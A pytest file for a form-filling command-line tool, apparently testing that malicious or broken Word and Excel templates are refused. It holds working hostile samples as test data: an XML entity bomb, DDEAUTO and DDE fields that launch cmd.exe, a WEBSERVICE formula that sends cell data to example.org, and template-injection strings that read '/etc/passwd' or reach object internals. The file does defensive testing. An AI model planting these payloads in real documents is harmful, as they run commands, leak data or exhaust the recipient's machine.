"""Forms that are broken, hold macros, misspell a tag or never end: a plain sentence, and what was there stays."""

from __future__ import annotations

import contextlib
import os
import random
import zipfile
from collections.abc import Callable, Iterator
from functools import cache
from io import BytesIO
from pathlib import Path
from typing import Any

import docx
import openpyxl
import pytest
from tests.cli.desk import ENVIRONMENT, TODAY, Desk

from lianxin.cli.boundary import run
from lianxin.cli.run.exit import Exit
from lianxin.core.error import LianxinError
from lianxin.formats.fill import docx as fill_docx
from lianxin.formats.fill import tag as fill_tag
from lianxin.formats.fill import xlsx as fill_xlsx
from lianxin.formats.fill.sound import sound

pytestmark = pytest.mark.slow  # it takes long

BEFORE = "原来填好的".encode()


@pytest.fixture(scope="module")
def written(with_issue: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    return Desk.copied(with_issue, tmp_path_factory.mktemp("form")).root


@pytest.fixture
def fill(
    written: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> Iterator[Callable[[bytes, str], tuple[int, str]]]:
    """Fills a form whose bytes are given over a file that was there; what it says, nothing else having changed."""
    for name, value in ENVIRONMENT.items():
        monkeypatch.setenv(name, value)
    mask = os.umask(0o077)

    def filled(form: bytes, suffix: str) -> tuple[int, str]:
        blank, out = tmp_path / f"上级{suffix}", tmp_path / f"好{suffix if suffix in ('.docx', '.xlsx') else '.xlsx'}"
        blank.write_bytes(form)
        out.write_bytes(BEFORE)
        words = ["--data", str(written), "--today", TODAY, "fill", str(blank), "--issue", "1", "-o", str(out)]
        code = run(words)
        assert out.read_bytes() == BEFORE
        assert {path.name for path in tmp_path.iterdir()} == {blank.name, out.name}
        return code, capsys.readouterr().err

    yield filled
    os.umask(mask)


@cache
def word(text: str = "{{ 编号 }}") -> bytes:
    made, file = docx.Document(), BytesIO()
    made.add_paragraph(text)
    made.save(file)
    return file.getvalue()


@cache
def sheet(text: str = "{{ 编号 }}") -> bytes:
    book, file = openpyxl.Workbook(), BytesIO()
    assert book.active is not None
    book.active.append([text])
    book.save(file)
    return file.getvalue()


def repacked(package: bytes, **parts: bytes) -> bytes:
    """A package with some of its parts other than they were."""
    made = BytesIO()
    with zipfile.ZipFile(BytesIO(package)) as old, zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            if name not in parts:
                new.writestr(name, old.read(name))
        for name, content in parts.items():
            new.writestr(name, content)
    return made.getvalue()


MACROS = {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"}
#: Four lines that stand for millions.
ENTITIES = b'<!DOCTYPE a [<!ENTITY b "haha"><!ENTITY c "&b;&b;&b;&b;">]><w:document>&c;</w:document>'


def _too_much() -> bytes:
    """Made when it is needed: it takes a second."""
    return repacked(word(), **{"word/media/a.png": bytes(200_000_000)})


@pytest.mark.parametrize(
    ("form", "suffix", "code", "why"),
    [
        (word()[:-200], ".docx", Exit.REFUSED, "不完整或已损坏"),
        (sheet()[:900], ".xlsx", Exit.REFUSED, "不完整或已损坏"),
        (repacked(word(), **{"word/document.xml": b"<w:document>"}), ".docx", Exit.REFUSED, "不完整或已损坏"),
        (repacked(word(), **{"word/document.xml": ENTITIES}), ".docx", Exit.REFUSED, "不完整或已损坏"),
        (_too_much, ".docx", Exit.REFUSED, "200 MB"),
        (b"\xd0\xcf\x11\xe0" + bytes(5000), ".docx", Exit.REFUSED, "加了密码"),
        (repacked(sheet(), **MACROS), ".xlsx", Exit.REFUSED, "有宏"),
        (repacked(word(), **{"word/vbaProject.bin": b"x"}), ".docx", Exit.REFUSED, "有宏"),
        (repacked(sheet(), **MACROS), ".xlsm", Exit.USAGE, "带宏的工作簿"),
        (word("{{ 责任部们 }}"), ".docx", Exit.USAGE, "是不是「责任部门」"),
        (sheet("{{ 责任部们 }}"), ".xlsx", Exit.USAGE, "是不是「责任部门」"),
        (sheet("{{ 编号 }"), ".xlsx", Exit.REFUSED, "标签写得不对"),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)
def test_a_bad_form(
    fill: Callable[[bytes, str], tuple[int, str]],
    form: bytes | Callable[[], bytes],
    suffix: str,
    code: Exit,
    why: str,
) -> None:
    said, err = fill(form if isinstance(form, bytes) else form(), suffix)
    assert (said, why in err, err.count("\n")) == (code, True, 1), err


@pytest.mark.parametrize("make", [word, sheet])
def test_a_form_that_never_ends(
    fill: Callable[[bytes, str], tuple[int, str]], make: Callable[[str], bytes], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(fill_tag, "PATIENCE", 0.5)
    loop = "{% for a in range(99999) %}{% for b in range(99999) %}{% endfor %}{% endfor %}"
    code, err = fill(make(loop), ".docx" if make is word else ".xlsx")
    assert (code, "没有尽头" in err) == (Exit.REFUSED, True), err


@pytest.mark.filterwarnings("ignore::UserWarning")
@pytest.mark.parametrize(("form", "module"), [(word(), fill_docx), (sheet(), fill_xlsx)], ids=["docx", "xlsx"])
def test_whatever_is_broken_is_refused_and_nothing_else(form: bytes, module: object) -> None:
    chance, passed = random.Random(7), 0
    for _ in range(50):
        bad = _broken(form, chance)
        with contextlib.suppress(LianxinError):
            sound(bad, "上级.docx")
            module.tags(bad, "上级.docx")  # type: ignore[attr-defined]
            module.fill(bad, "上级.docx", [], {"编号": "1"})  # type: ignore[attr-defined]
            passed += 1
    assert passed < 20


def _broken(form: bytes, chance: random.Random) -> bytes:
    """A form cut short, with a byte changed, or with one of its parts cut short, changed or emptied."""
    at = chance.randrange(len(form))
    whole = (form[:at], form[:at] + bytes([chance.randrange(256)]) + form[at + 1 :])
    with zipfile.ZipFile(BytesIO(form)) as package:
        name = chance.choice(package.namelist())
        part = package.read(name)
    at = chance.randrange(len(part))
    parts = (part[:at], part[:at] + bytes([chance.randrange(256)]) + part[at + 1 :], b"")
    broken, is_whole = chance.choice([(one, True) for one in whole] + [(one, False) for one in parts])
    return broken if is_whole else repacked(form, **{name: broken})


def _paragraph(*runs: str) -> bytes:
    """A Word form with a paragraph of its own."""
    with zipfile.ZipFile(BytesIO(word())) as package:
        whole = package.read("word/document.xml").decode()
    said = "".join(runs)
    return repacked(
        word(), **{"word/document.xml": whole.replace("<w:body>", f"<w:body><w:p>{said}</w:p>", 1).encode()}
    )


def _field(*instruction: str) -> bytes:
    parts = "".join(f"<w:r><w:instrText>{one}</w:instrText></w:r>" for one in instruction)
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{one}"/></w:r>' for one in ("begin", "end"))
    return _paragraph(begin, parts, end)


def _related(part: str, sort: str, target: str, *, outside: bool = True) -> bytes:
    mode = ' TargetMode="External"' if outside else ""
    space = "http://schemas.openxmlformats.org"
    rels = (
        f'<Relationships xmlns="{space}/package/2006/relationships"><Relationship Id="rId99" '
        f'Type="{space}/officeDocument/2006/relationships/{sort}" Target="{target}"{mode}/></Relationships>'
    )
    return repacked(word(), **{part: rels.encode()})


def _formula(text: str) -> bytes:
    book, file = openpyxl.Workbook(), BytesIO()
    assert book.active is not None
    book.active["A1"] = "{{ 编号 }}"
    book.active["B1"] = text
    book.save(file)
    return file.getvalue()


SETTINGS = "word/_rels/settings.xml.rels"
#: What would run or fetch on the desk of whoever opens the filled form.
ALIVE = [
    (_related(SETTINGS, "attachedTemplate", "http://example.org/a.dotm"), ".docx", "外部模板"),
    (_related(SETTINGS, "attachedTemplate", "a.dotm", outside=False), ".docx", "外部模板"),
    (_related("word/_rels/footer9.xml.rels", "image", "http://example.org/a.png"), ".docx", "外部图片"),
    (_related("word/_rels/footer9.xml.rels", "hyperlink", "http://example.org/"), ".docx", "外部链接"),
    (_related("word/_rels/footer9.xml.rels", "aFChunk", "a.html", outside=False), ".docx", "嵌入的网页"),
    (_paragraph('<w:pict><v:imagedata xmlns:v="urn:v" src="http://example.org/a.png"/></w:pict>'), ".docx", "外部图片"),
    (_field(" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "), ".docx", "DDEAUTO"),
    (_field(" DD", "EAU", "TO cmd "), ".docx", "DDEAUTO"),
    (_paragraph('<w:fldSimple w:instr=" dde cmd "/>'), ".docx", "DDE"),
    (_field(' INCLUDEPICTURE "http://example.org/a.png" '), ".docx", "INCLUDEPICTURE"),
    (_field(" INCLUDETEXT c:\\\\a.txt "), ".docx", "INCLUDETEXT"),
    (_field(" QUOTE 68 68 69 "), ".docx", "QUOTE"),
    (_field(' HYPERLINK "http://example.org" '), ".docx", "HYPERLINK"),
    (repacked(word(), **{"word/activeX/activeX1.xml": b"<a/>"}), ".docx", "控件"),
    (repacked(word(), **{"word/embeddings/oleObject1.bin": b"x"}), ".docx", "嵌入的对象"),
    (repacked(sheet(), **{"xl/externalLinks/externalLink1.xml": b"<a/>"}), ".xlsx", "外部数据链接"),
    (repacked(sheet(), **{"xl/connections.xml": b"<a/>"}), ".xlsx", "外部数据链接"),
    (_formula("=cmd|'/c calc'!A0"), ".xlsx", "公式"),
    (_formula('=WEBSERVICE("http://example.org/"&A1)'), ".xlsx", "公式"),
    (_formula('=HYPERLINK("http://example.org/"&A1)'), ".xlsx", "公式"),
]


@pytest.mark.parametrize(("form", "suffix", "why"), ALIVE)
def test_nothing_that_runs_or_fetches_comes_in(
    fill: Callable[[bytes, str], tuple[int, str]], form: bytes, suffix: str, why: str
) -> None:
    said, err = fill(form, suffix)
    assert (said, why in err, "另存一份再来" in err, err.count("\n")) == (Exit.REFUSED, True, True, 1), err


@pytest.mark.parametrize(
    "told", [" PAGE ", " NUMPAGES \\* MERGEFORMAT ", ' TOC \\o "1-3" \\h ', ' HYPERLINK \\l "_Toc1" ']
)
def test_words_own_fields_and_plain_formulas_come_in(told: str) -> None:
    sound(_field(told), "上级.docx")
    sound(_formula("=SUM(C1:C9)"), "上级.xlsx")


@pytest.mark.parametrize("make", [word, sheet])
@pytest.mark.parametrize(
    "text",
    [
        *("{% include '/etc/passwd' %}", "{% import 'a' as b %}", "{% from 'a' import b %}", "{% extends 'a' %}"),
        *("{% macro a() %}{% endmacro %}", "{{ 'x' * 999999999 }}", "{{ 9 ** 999999 }}", "{{ 编号.__class__ }}"),
        *("{{ '%0999999999d' % 1 }}", "{{ 编号|center(999999999) }}", "{{ 编号|indent(999999999) }}"),
        *(
            "{{ '%s'|format(编号) }}",
            "{{ lipsum(99) }}",
            "{{ cycler }}",
            "{{ 编号.format(1) }}",
            "{{ 编号|attr('x') }}",
        ),
    ],
)
def test_templates_may_do_little(
    fill: Callable[[bytes, str], tuple[int, str]], make: Callable[[str], bytes], text: str
) -> None:
    said, err = fill(make(f"{{{{ 编号 }}}} {text}"), ".docx" if make is word else ".xlsx")
    assert said in (Exit.REFUSED, Exit.USAGE)
    assert ("不能用的「" in err or "不认识的标签" in err, err.count("\n")) == (True, 1), err


@pytest.mark.parametrize("make", [word, sheet])
def test_a_form_that_takes_all_the_room_there_is(
    fill: Callable[[bytes, str], tuple[int, str]], make: Callable[[str], bytes], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(fill_tag, "_ROOM", 1 << 27)
    doubled = "{% set a = '满满' %}" + "{% set a = a ~ a %}" * 30 + "{{ a }}"
    code, err = fill(make(doubled), ".docx" if make is word else ".xlsx")
    assert (code, "内存太多" in err, err.count("\n")) == (Exit.REFUSED, True, 1), err


BRACES = [
    "｛｛事由｝｝",
    "{ { 事由 } }",
    "{{ 编号 }} ｛{事由}｝",
    "{｛事由}}",
    "｛% if 事由 %｝",
    "{ % if 事由 % }",
    "{{ 事由 } }",
    "{％ if 事由 ％}",
]


@pytest.mark.parametrize("make", [word, sheet])
@pytest.mark.parametrize("text", BRACES)
def test_tags_that_are_none_are_told_of(
    fill: Callable[[bytes, str], tuple[int, str]], make: Callable[[str], bytes], text: str
) -> None:
    said, err = fill(make(text), ".docx" if make is word else ".xlsx")
    assert (said, "大括号" in err, err.count("\n")) == (Exit.REFUSED, True, 1), err


def test_braces_over_several_runs_are_seen(fill: Callable[[bytes, str], tuple[int, str]]) -> None:
    runs = "".join(f"<w:r><w:t>{one}</w:t></w:r>" for one in ("｛", "｛事", "由｝", "｝"))
    said, err = fill(_paragraph(runs), ".docx")
    assert (said, "｛｛事由｝｝" in err) == (Exit.REFUSED, True), err


def test_tags_where_none_is_filled_are_told_of(fill: Callable[[bytes, str], tuple[int, str]]) -> None:
    notes = (
        b'<w:footnotes xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:footnote><w:p><w:r>'
    )
    notes += "<w:t>{{ 事由 }}</w:t></w:r></w:p></w:footnote></w:footnotes>".encode()
    said, err = fill(repacked(word(), **{"word/footnotes.xml": notes}), ".docx")
    assert (said, "脚注" in err) == (Exit.REFUSED, True), err


def test_tags_over_and_under_a_sheet_are_told_of(fill: Callable[[bytes, str], tuple[int, str]]) -> None:
    book, file = openpyxl.Workbook(), BytesIO()
    assert book.active is not None
    book.active["A1"] = "{{ 编号 }}"
    over: Any = book.active.oddHeader
    over.center.text = "{{ 事由 }}"
    book.save(file)
    said, err = fill(file.getvalue(), ".xlsx")
    assert (said, "页眉" in err) == (Exit.REFUSED, True), err
